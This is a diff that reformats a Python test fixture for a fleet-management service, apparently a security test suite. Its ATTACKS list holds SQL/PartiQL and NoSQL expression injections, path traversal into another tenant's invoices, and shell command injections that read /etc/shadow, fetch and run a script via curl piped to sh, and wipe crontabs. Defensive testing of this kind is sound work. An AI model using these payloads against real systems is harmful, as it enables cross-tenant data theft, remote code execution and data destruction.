@@ -55,7 +55,13 @@ REQUESTS = {
         api(
             "POST",
             "/vehicles",
-            {"plate": "L-UX 1", "km": 12.5, "driver": PEOPLE[0], "tags": ["it's new", None, {"a": True}], "notes": TICKET},
+            {
+                "plate": "L-UX 1",
+                "km": 12.5,
+                "driver": PEOPLE[0],
+                "tags": ["it's new", None, {"a": True}],
+                "notes": TICKET,
+            },
         ),
         api("DELETE", "/vehicles/1", ids={"id": "1"}),
     ],
@@ -64,29 +70,55 @@ REQUESTS = {
         _update(driver=PEOPLE[1], remarks=REVIEW),
         _update(garage=ADDRESS),
     ],
-    "find_vehicles": [_find(driver="Zoë O'Hara"), _find(plate="M-XY 12"), _find(driver="李 小龍", plate="HH-SE 99")],
-    "find_vehicles_bound": [_find(driver="Zoë O'Hara"), _find(driver="x' OR pk = 'company#b"), _find(driver=FIRM)],
+    "find_vehicles": [
+        _find(driver="Zoë O'Hara"),
+        _find(plate="M-XY 12"),
+        _find(driver="李 小龍", plate="HH-SE 99"),
+    ],
+    "find_vehicles_bound": [
+        _find(driver="Zoë O'Hara"),
+        _find(driver="x' OR pk = 'company#b"),
+        _find(driver=FIRM),
+    ],
     "vehicles_above": [
         _above(field="km", value=50000),
         _above(field="km", operator="<=", value=76000),
         _above(field="driver", operator="=", value="Jan Novák"),
     ],
-    "download_link": [_link("manual (v2).txt"), _link("invoices/2024-05.csv"), _link("O'Brien & Söhne #1.pdf")],
+    "download_link": [
+        _link("manual (v2).txt"),
+        _link("invoices/2024-05.csv"),
+        _link("O'Brien & Söhne #1.pdf"),
+    ],
     "upload_form": [
         api("POST", "/uploads", {"filename": "Crash photo (1) – O'Neill.jpg", "type": "image/jpeg"}),
         api("POST", "/uploads", {"filename": "${filename}"}),
         api("POST", "/uploads", {"filename": "2024/05/レポート.xlsx", "type": "application/vnd.ms-excel"}),
     ],
-    "document": [_document("manual (v2).txt"), _document("invoices//2024-05.csv"), _document("no; such 'file'.txt")],
+    "document": [
+        _document("manual (v2).txt"),
+        _document("invoices//2024-05.csv"),
+        _document("no; such 'file'.txt"),
+    ],
     "invoices_added": [
         put("company-a/invoices/2024-05.csv"),
         put("company-a/gone/it's (1) & more.csv", "company-a/invoices/2024-05.csv"),
         put("company-a/fehlt – ü.csv"),
     ],
     "copy_report": [
-        bus("Object Created", {"bucket": {"name": "partner"}, "object": {"key": "reports/2024/Q1 (final).pdf", "size": 5}}),
-        bus("Object Created", {"bucket": {"name": "partner"}, "object": {"key": "o'brien/été 50%.csv"}, "reason": SNIPPET}),
-        bus("Object Created", {"bucket": {"name": "p"}, "object": {"key": "a+b=c&d.json", "etag": "x"}}, source="aws.s3"),
+        bus(
+            "Object Created",
+            {"bucket": {"name": "partner"}, "object": {"key": "reports/2024/Q1 (final).pdf", "size": 5}},
+        ),
+        bus(
+            "Object Created",
+            {"bucket": {"name": "partner"}, "object": {"key": "o'brien/été 50%.csv"}, "reason": SNIPPET},
+        ),
+        bus(
+            "Object Created",
+            {"bucket": {"name": "p"}, "object": {"key": "a+b=c&d.json", "etag": "x"}},
+            source="aws.s3",
+        ),
     ],
     "alert": [
         queue({"title": "Low oil: M-XY 12", "text": "It's below 20%; please check"}),
@@ -94,9 +126,13 @@ REQUESTS = {
         queue({"title": "Ticket\nnew", "text": ARTICLE}, "plain text", {"title": PEOPLE[3], "text": MAIL}),
     ],
     "contact_form": [
-        form("/contact", name=PEOPLE[0], email="s.o'connor@example.org", subject="It's urgent!", message=TICKET),
+        form(
+            "/contact", name=PEOPLE[0], email="s.o'connor@example.org", subject="It's urgent!", message=TICKET
+        ),
         form("/contact", name=PEOPLE[4], email="g@example.gr", message=SNIPPET),
-        form("/contact", name=FIRM, email="office@example.de", subject="Angebot für 3 PKW (50 %)", message=MAIL),
+        form(
+            "/contact", name=FIRM, email="office@example.de", subject="Angebot für 3 PKW (50 %)", message=MAIL
+        ),
     ],
     "newsletter": [
         bus("Subscribed", {"name": PEOPLE[2], "text": REVIEW}),
@@ -113,22 +149,62 @@ ATTACKS = [
     Attack("NoSQL, key", "update_vehicle", _update(**{"plate = vin, km": 1}), VIN),
     Attack("SQL, PartiQL", "find_vehicles", _find(plate="x' OR pk = 'company#b"), RIVAL),
     Attack("SQL, PartiQL", "find_vehicles", _find(plate="x' OR vin = 'VIN-B"), RIVAL),
-    Attack("SQL, PartiQL", "find_vehicles", _find(driver="x", plate="x' OR begins_with(\"vin\", 'VIN-B') OR plate='"), RIVAL),
+    Attack(
+        "SQL, PartiQL",
+        "find_vehicles",
+        _find(driver="x", plate="x' OR begins_with(\"vin\", 'VIN-B') OR plate='"),
+        RIVAL,
+    ),
     Attack("NoSQL, expression", "vehicles_above", _above(field="km > :value OR km", value=0), RIVAL),
-    Attack("NoSQL, expression", "vehicles_above", _above(field="driver = :value OR begins_with(driver, :value) OR driver", operator="=", value="Riv"), RIVAL),
-    Attack("NoSQL, expression", "vehicles_above", _above(field="km", operator="= :value OR attribute_exists(vin) OR km <", value=0), RIVAL),
-    Attack("NoSQL, expression", "vehicles_above", _above(field="contains(plate, :value) OR (NOT pk = :pk) OR plate", operator="=", value="zz"), RIVAL),
+    Attack(
+        "NoSQL, expression",
+        "vehicles_above",
+        _above(field="driver = :value OR begins_with(driver, :value) OR driver", operator="=", value="Riv"),
+        RIVAL,
+    ),
+    Attack(
+        "NoSQL, expression",
+        "vehicles_above",
+        _above(field="km", operator="= :value OR attribute_exists(vin) OR km <", value=0),
+        RIVAL,
+    ),
+    Attack(
+        "NoSQL, expression",
+        "vehicles_above",
+        _above(field="contains(plate, :value) OR (NOT pk = :pk) OR plate", operator="=", value="zz"),
+        RIVAL,
+    ),
     Attack("path, key of a bucket", "document", _document("../company-b/invoices/2024-05.csv"), INVOICE),
-    Attack("path, key of a bucket", "document", _document("invoices/..//./../company-b/invoices/2024-05.csv"), INVOICE),
-    Attack("path, key of a bucket", "document", _document("x/y/../../../company-b/./invoices/2024-05.csv"), INVOICE),
+    Attack(
+        "path, key of a bucket",
+        "document",
+        _document("invoices/..//./../company-b/invoices/2024-05.csv"),
+        INVOICE,
+    ),
+    Attack(
+        "path, key of a bucket",
+        "document",
+        _document("x/y/../../../company-b/./invoices/2024-05.csv"),
+        INVOICE,
+    ),
     Attack(
         "path, key of a bucket",
         "copy_report",
         bus("Object Created", {"bucket": {"name": "p"}, "object": {"key": "/config/rules.json"}}),
         '"key": "/config/rules.json"',
     ),
-    Attack("command, run command", "restart_tracker", _restart("x'; cat /etc/shadow; echo '"), "restart.sh --device 'x'; cat"),
-    Attack("command, run command", "restart_tracker", _restart("x'$(curl -s http://198.51.100.9/a|sh)'"), "'x'$(curl"),
+    Attack(
+        "command, run command",
+        "restart_tracker",
+        _restart("x'; cat /etc/shadow; echo '"),
+        "restart.sh --device 'x'; cat",
+    ),
+    Attack(
+        "command, run command",
+        "restart_tracker",
+        _restart("x'$(curl -s http://198.51.100.9/a|sh)'"),
+        "'x'$(curl",
+    ),
     Attack("command, run command", "restart_tracker", _restart("1'\ncrontab -r\n: '"), "'1'\\ncrontab -r"),
     Attack(
         "SQL, Athena",
